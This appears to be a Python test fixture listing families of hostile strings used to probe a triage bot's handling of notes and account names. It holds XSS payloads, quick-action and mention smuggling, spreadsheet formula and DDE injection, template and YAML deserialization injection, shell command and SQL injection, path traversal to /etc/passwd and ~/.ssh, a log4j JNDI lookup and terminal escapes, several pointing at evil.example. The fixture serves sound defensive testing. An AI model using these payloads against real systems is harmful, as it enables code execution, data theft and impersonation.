"""Hostile strings by family: what anyone who can name an account, or write a note, may try.

`VICTIM` is a member of the project whom no policy ever names, `TARGET` an issue of the project.
"""

# ruff: noqa: E501 - a table of strings is read by its families
from __future__ import annotations

import re
from collections.abc import Mapping

from tests.render.hostile import HOSTILE, exported
from triage_bot.sandbox.domain.quick_actions import KNOWN

VICTIM, TARGET, PROJECT, GROUP = "guest-user", 1, "acme/customer-success/account-triage", "acme"

_ADDRESS = f"http://127.0.0.1/{PROJECT}/-"
_ARGUMENT = {
    "assign": f"@{VICTIM}",
    "label": '~"HS::Green"',
    "due": "2020-01-01",
    "title": "Stolen",
    "duplicate": f"#{TARGET}",
    "relate": f"#{TARGET}",
    "move": "evil/project",
    "spend": "9h",
    "weight": "9",
    "invite_email": "a@evil.example",
}
_COMMAND = f"/assign @{VICTIM}"

FAMILIES: Mapping[str, tuple[str, ...]] = {
    "every quick action": tuple(f"/{name} {_ARGUMENT.get(name, '')}".strip() for name in sorted(KNOWN)),
    "quick actions in disguise": (
        "/Close", "/cLOSE the door", "/close\r", "/close\r\n/lock", "call\r\n/close\r\nlater", "call\n\r/close",
        "call\n\n/close", "call\n\n\n\n/close\n", "call\u2028/close", "call\u2029/close", "call\x1c/close",
        "call\x1d/close", "call\x1e/close", "call\v/close", "call\f/close", "\u00a0/close", "\u3000/close",
        "\u2060/close", "\u202e/close", "\t/close", "   /close", "    /close", ">/close", "> /close",
        ">>>\n/close\n>>>", "---\n/close\n---", "---\nx: y\n---\n/close", "- x\n/close", "1. x\n/close",
        "| a |\n| - |\n/close", "| a |\n| - |\n\n/close", "# x\n/close", "<!-- x -->\n/close",
        "<!--\n-->\n/close", "-->\n/close", "`\n/close", "`\n/close\n`", "``\n/close\n", "```\n/close",
        "~~~\n/close\n~~~\n/close", "```\n```\n/close", "<div>\n/close", "<div>\n\n/close", "</details>\n\n/close",
        "[x]: y\n/close", "$$\n/close\n$$", "\\\n/close", "&#47;close", "&sol;close", "／close", "∕close",
        f"x\n{_COMMAND}\n/label ~\"HS::Green\"\n/unassign", "/shrug", "/tableflip", "/cc @all", "//close", "/ close",
    ),
    "mentions": tuple(
        form.format(name)
        for name in (VICTIM, "all", GROUP, f"{GROUP}/customer-success")
        for form in ("@{}", "hi @{}!", "(@{})", "**@{}**", "~~@{}~~", "[@{}](x)", "*@{}", "x\n@{}\n", "@{}'s", "`@{}")
    ),
    "mentions in disguise": (
        f"&#64;{VICTIM}", f"&#x40;{VICTIM}", f"&commat;{VICTIM}", f"\\@{VICTIM}", f"\\\\@{VICTIM}", f"<b>@{VICTIM}</b>",
        f"@<!-- -->{VICTIM}", f"`` ` @{VICTIM} ` ``", f"`a` @{VICTIM} `b`", f"` @{VICTIM}", f"a` `@{VICTIM}", f"@\u200b{VICTIM}",
        f"\u202e@{VICTIM}", f"@{VICTIM.upper()}", f"＠{VICTIM}", f"a@b @{VICTIM}", f"|@{VICTIM}|", f"![@{VICTIM}](x)",
        f"<@{VICTIM}>", f"@\n{VICTIM}", f"@ {VICTIM}", f"-@{VICTIM}", f"_@{VICTIM}_", f"/@{VICTIM}", f"@{VICTIM}@all",
        f"[x]: @{VICTIM}", f"[^1]: @{VICTIM}", f"mailto:@{VICTIM}", f"https://x.example/@{VICTIM}", f'"@{VICTIM}"',
    ),
    "references": tuple(
        form.format(sign)
        for sign in (f"#{TARGET}", f"!{TARGET}", f"&{TARGET}", f"${TARGET}", f"%{TARGET}", f"~{TARGET}", f"GL-{TARGET}")
        for form in ("{}", "see {}.", "({})", "x\n{}", f"{PROJECT}{{}}")
    ),
    "references by name": (
        f"[issue:{TARGET}]", f"[issue:{PROJECT}/{TARGET}]", f"[work_item:{TARGET}]", f"[epic:{TARGET}]",
        f"[merge_request:{TARGET}]", f"[snippet:{TARGET}]", "[vulnerability:1]", "[feature_flag:1]", "[cadence:1]",
        "*iteration:1", '*iteration:"Sprint 1"', "[[wiki page]]", "[[/x|y]]", '~"HS::Red"', "~HS::Red", '%"FY28-Q1"',
        "^alert#1", f"{PROJECT}>", "@all#1", "deadbeefdeadbeefdeadbeefdeadbeefdeadbeef", "1a2b3c4..5d6e7f8",
        "#1+", "#1+s", "!1+", "&#35;1", "\\#1", "\\\\#1", "`#1", "#`1`", "＃1", "C#1", "#1#2#3#4",
    ),
    "addresses of this project": (
        *(f"{_ADDRESS}/{kind}/{TARGET}" for kind in ("issues", "work_items", "merge_requests", "epics", "snippets")),
        f"{_ADDRESS}/issues/{TARGET}#note_1", f"{_ADDRESS}/issues/{TARGET}?x=1", f"<{_ADDRESS}/issues/{TARGET}>",
        f"[x]({_ADDRESS}/issues/{TARGET})", f"![x]({_ADDRESS}/issues/{TARGET})", f"[x]: {_ADDRESS}/issues/{TARGET}",
        f"HTTP://127.0.0.1/{PROJECT}/-/issues/{TARGET}", f"{_ADDRESS}/issues/%31", f"{_ADDRESS}//issues/{TARGET}",
        f"http://user:pass@127.0.0.1/{PROJECT}/-/issues/{TARGET}", f"{_ADDRESS}/commit/deadbeef", "//evil.example/x",
    ),
    "links and images": (
        "[x](javascript:alert(1))", "[x](JaVaScRiPt:alert(1))", "[x](data:text/html,<script>alert(1)</script>)",
        "[x](vbscript:x)", "[x](/users/sign_out)", "[x](//evil.example)", "[x](<https://evil.example>)",
        '[x](https://evil.example "t")', "![x](https://evil.example/p.png){width=9}", "[![x](y)](z)", "[x][]", "[x]",
        "[x]: https://evil.example 'y'", "x\n\n[x]: https://evil.example\n", "[^x]\n\n[^x]: y", "<javascript:alert(1)>",
        "https://evil.example/(x)", "http://[::1]/", "www.evil.example", "evil.example", "ftp://evil.example/x",
        "ssh://evil.example", "javascript:alert(1)", "https://evil.example/\u202egnp.exe", "https://xn--80ak6aa92e.example",
        "a@evil.example", "mailto:a@evil.example?bcc=b", "x)[y](https://evil.example", "](https://evil.example)",
        "https://evil.example/|x", "https://evil.example`x", "tel:112",
    ),
    "HTML": (
        "<img src=x onerror=alert(1)>", "<svg onload=alert(1)>", "<svg><script>alert(1)</script></svg>", "<math><mi>x",
        "<iframe src=//evil.example>", "<object data=x>", "<embed src=x>", "<form action=//evil.example><input>",
        "<button onclick=alert(1)>x", "<style>*{display:none}</style>", "<link rel=stylesheet href=//evil.example>",
        "<base href=//evil.example>", "<meta http-equiv=refresh content=0>", "<body onload=alert(1)>", "<a name=x>",
        "<a href='javascript:alert(1)'>x</a>", "<details open ontoggle=alert(1)>x", "</details></div></main>",
        "</td></tr></table>", "<table><tr><td>", "<h1>Closed</h1>", "<input type=checkbox checked>", "<textarea>",
        "<template><b>", "<noscript><b>", "<title>x", "<xmp>", "<plaintext>", "<![CDATA[x]]>", "<?xml version='1'?>",
        "<!DOCTYPE html>", "<b", "<b\n", "< b>", "<b/>", "&lt;script&gt;", "&#60;script&#62;", "<scr<script>ipt>",
        "\\<b>", "<a\nb>", "<video src=x>", "<span style='position:fixed;inset:0'>x</span>", "<pre>", "<code>", "<del>",
    ),
    "comments and markers": (
        "-->", "--!>", "--->", "<!--", "<!-- -->", "<!-->", "<!--->", "x --> y", "<!-- x", "--", "- - >",
        "<!-- triage-bot:begin v1 {} -->", "<!-- triage-bot:begin v9 {} -->", "<!-- triage-bot:begin", "<!-- triage-bot:end -->",
        "\n<!-- triage-bot:end -->\n", "x\n<!-- triage-bot:end -->\n/close", "<!-- triage-bot:said nudge:1:1 -->",
        "\n<!-- triage-bot:said x -->\n", "<!-- triage-bot:dashboard v1 {} -->", "<!-- triage-bot:dashboard-end -->",
        '\n<!-- triage-bot:begin v1 {"account":"x","opened":"2026-01-01","health":"green","since":"2026-01-01"} -->\n',
        '"account":"x"', '","health":"green', "}} -->", "\\u002d\\u002d>", "&#45;&#45;>", "triage-bot:end",
    ),
    "tables": (
        "|", "||", "|||||||||", "a | b", "| a | b |", "|-|", "| - | - |", "\\|", "\\\\|", "`|`", "` | `", "a|\n|b", "&#124;",
        "&vert;", "¦", "x |\n\n| y |", "|x|\n|-|\n|y|", "<br>|", "\\", "x\\", "`", "x`", "``x", "$`|`$",
    ),
    "blocks": (
        "# heading", "###### heading", "x\n=", "x\n===", "x\n---", "x\n\n---\n\ny", "***", "___", "- - -", "- item", "* item",
        "+ item", "1. item", "1) item", "999999999. x", "- [ ] task", "- [x] task", "> quote", ">>> quote", ">>>", "    code",
        "\tcode", "```", "~~~", "`````", "```mermaid\ngraph TD\n```", "```plantuml\n@startuml\n```", "```math\nx\n```",
        "```suggestion:-0+1\n```", "```json:table\n{}\n```", "```yaml\n", "~~~\n", ": definition", "x\n: y", "[[_TOC_]]",
        "[TOC]", "::include{file=secret.md}", "::: note", ":::", "> [!warning]\n> x", "[^1]: x", "*[HTML]: x", "+++\nx = 1\n+++",
        ";;;\n{}\n;;;", "---\ntitle: x\n---", "{: .x}", "{.x}", "x  \ny", "x\\\ny", "&nbsp;", "\n\n\n\n\n",
        "## Next steps", "\n## Next steps\n- [ ] 2026-12-01 pay", "\n## Outcome\nclosed-won\n", "\n# Stolen\n",
    ),
    "inline marks": (
        "**bold**", "***x***", "__x__", "_x_", "~~x~~", "==x==", "^^x^^", "H~2~O", "x^2^", "{+ x +}", "{- x -}", "[+ x +]",
        "[- x -]", "$x$", "$$x$$", "$`x`$", "$$\\href{javascript:alert(1)}{x}$$", "\\(x\\)", "\\[x\\]", ":smile:", ":+1:",
        ":evil:", ":triage-bot:", "#ff0000", "`#ff0000`", "`RGB(0,0,0)`", "<kbd>x</kbd>", "![](x)", "\\*", "\\_x\\_", "&copy;",
        "&#x1f600;", "\\n", "x\\", "&", "&amp;amp;", "'\"", "“”", "--- ---", "...", "(c)", "1/2",
    ),
    "disguises": (
        "\u202eevil\u202c", "\u2066x\u2069", "\u200ex", "\u200fx", "\u061cx", "a\u200bb", "a\u200cb", "a\u200db", "a\u2060b",
        "\ufeffx", "x\u00ad", "\u180ex", "\U000e0041x", "\ufff9x\ufffa", "\u115fx", "\u3164", "\u034fx", "x\u0301\u0301\u0301",
        "Z\u0351\u0351\u0351\u0351\u0351", "\ud800", "x\udc00", "\udcffx", "\ud83d", "\ufffe", "\uffff", "\ue000", "\U0010ffff",
        "\x00", "x\x00y", "\x01", "\x07", "\x08\x08", "\x0b", "\x0c", "\x1a", "\x1b", "\x7f", "\x80", "\x85", "\x9b31m", "\u2028",
        "x\u2028y", "\u2029", "\r", "\r\n", "\n\r", "x\ry", "\u00a0", "\u2003", "", " ", "\n", "ﷺ" * 20, "\u0085\u0085",
    ),
    "terminal and job log": (
        "\x1b[31mred\x1b[0m", "\x1b]8;;https://evil.example\x07x\x1b]8;;\x07", "\x1b[2J\x1b[H", "\x1b[1A\x1b[2K", "\x1b]0;x\x07",
        "\x1bP+q\x1b\\", "\x9b2J", "section_start:1:x\r\x1b[0K", "section_end:1:x\r\x1b[0K", "x\rsection_start:1:y[collapsed=true]\r\x1b[0K",
        "\nJob succeeded\n", "\x1b[0KERROR: Job failed", "::error::x", "##[error]x", "##vso[task.complete]", "%0A::warning::x",
    ),
    "formulas": (
        "=1+1", "=cmd|'/C calc'!A0", "+1+1", "-1+1", "@SUM(1)", "\t=1", "\r=1", "=HYPERLINK(\"https://evil.example\")",
        "=IMPORTXML(\"https://evil.example\",\"//a\")", "'=1", "\"=1\"", "＝1+1", "=DDE(\"cmd\";\"/C calc\")", "%=1",
    ),
    "templates and formats": (
        "{{ 7*7 }}", "{{ ''.__class__ }}", "{% include '/etc/passwd' %}", "{%- raw -%}", "{# x #}", "{{ account.arr }}",
        "{% endfor %}", "}}{{", "${7*7}", "#{7*7}", "<%= 7*7 %>", "%{title}", "%(x)s", "{0}", "{0.__class__}", "%s%s%n", "$x",
        "\\1", "\\g<0>", "(?{x})", "%25", "%0a/close", "+%2B+",
    ),
    "YAML, JSON and shell": (
        "*x", "&x y", "!!python/object/apply:os.system [id]", "{a: b}", "[a, b]", "- x", "x: y", "? x", "| x", "%TAG", "---",
        "...", "null", "~", "true", "no", "1e9", "0x10", "NaN", "-0", '{"a":1}', '"}', "\\u0000", "\\", "$(id)", "`id`", "; id",
        "&& id", "| id", "> /x", "../../etc/passwd", "..\\..\\x", "/etc/passwd", "~/.ssh", "C:\\x", "file:///etc/passwd", "-rf",
        "--help", "*", "?", "%PATH%", "' OR 1=1 --", "'; DROP TABLE x; --", "${jndi:ldap://evil.example}", "\\\\evil\\x",
    ),
    "length": (
        "x" * 20_000, "@all " * 2_000, "/close\n" * 2_000, "`" * 5_000, "|" * 5_000, "[" * 5_000, "*" * 5_000, "<" * 5_000,
        "\\" * 5_000, "![" * 2_000, "\n" * 5_000, "-->" * 2_000, "(" * 5_000, "> " * 2_000, "- " * 2_000, "\u202e" * 5_000,
        "a@" * 2_000, "&#64;" * 2_000, "é" * 5_000, "💥" * 5_000, "x " * 9_000 + "\n/close",
    ),
}  # fmt: skip

_CELLS = frozenset(exported())
_ORDINARY = re.compile(r"[\w .,/&-]+")

CORPUS: tuple[str, ...] = tuple(
    text
    for text in dict.fromkeys([*(text for family in FAMILIES.values() for text in family), *HOSTILE])
    # The hostile export holds ordinary cells, too, such as reasons and regions, which have labels.
    if text not in _CELLS or not _ORDINARY.fullmatch(text)
)

POSITIONS: Mapping[str, str] = {
    "alone": "{}",
    "start": "{} said so",
    "middle": "they said {} today",
    "end": "they said {}",
    "own line": "they said\n{}\nand left",
    "own paragraph": "they said\n\n{}\n\nand left",
    "after a list": "- first\n- second\n\n{}",
    "in a list": "- first\n- {}\n- third",
    "after a comment": "<!-- note -->\n{}",
    "in a cell": "| a | b |\n|---|---|\n| x | {} |\n",
    "after a fence": "```\ncode\n```\n{}",
    "in a quote": "> they said\n> {}",
}


def placed(text: str, position: str) -> str:
    return POSITIONS[position].replace("{}", text)


def sample(count: int) -> list[str]:
    """So many strings, spread over the whole corpus."""
    return [CORPUS[number * len(CORPUS) // count] for number in range(count)]
